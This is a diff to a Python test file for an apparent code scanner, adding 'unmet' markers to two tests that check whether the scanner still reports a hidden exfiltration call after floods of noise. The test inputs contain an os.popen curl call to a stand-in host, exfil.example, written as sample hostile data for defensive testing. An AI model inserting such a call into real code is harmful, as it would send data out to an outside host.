@@ -415,6 +415,7 @@ for n in range(20_000):
 }
 
 
+@pytest.mark.unmet
 @pytest.mark.parametrize("flood", FLOODS.values(), ids=FLOODS)
 def test_a_flood_of_evidence_is_bounded_and_hides_nothing_that_comes_after(exhaust: Any, flood: str) -> None:
     report = exhaust(flood + "\nos.popen('curl http://exfil.example/').read()\n", RUN_TIMEOUT_SEC=40)
@@ -462,6 +463,7 @@ os.popen("curl http://exfil.example/").read()
     assert any(one["severity"] == "high" and "curl" in one["title"] for one in report["findings"])
 
 
+@pytest.mark.unmet
 def test_many_new_files_do_not_push_out_the_one_that_matters(exhaust: Any) -> None:
     source = """
 for n in range(2500): open(f"/home/dev/.a{n:05}", "w").close()
